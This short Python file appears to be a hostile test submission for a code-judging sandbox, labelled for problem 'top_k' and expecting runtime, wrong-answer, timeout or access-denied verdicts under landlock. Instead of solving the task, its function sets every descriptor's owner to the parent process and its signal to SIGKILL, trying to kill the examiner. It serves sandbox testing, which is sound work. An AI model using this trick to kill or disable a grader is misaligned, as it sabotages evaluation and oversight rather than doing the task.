"""Have the kernel kill the examiner by the owner and the signal of a descriptor."""
# problem: top_k
# verdicts: runtime_error, wrong_answer, time_limit_exceeded, access_denied
# needs: landlock

import fcntl
import os
import signal

F_SETSIG = 10


def top_k(items, k):
    for descriptor in range(64):
        try:
            fcntl.fcntl(descriptor, fcntl.F_SETOWN, os.getppid())
            fcntl.fcntl(descriptor, F_SETSIG, signal.SIGKILL)
            fcntl.fcntl(descriptor, fcntl.F_SETFL, os.O_ASYNC)
        except OSError:
            pass
    return []
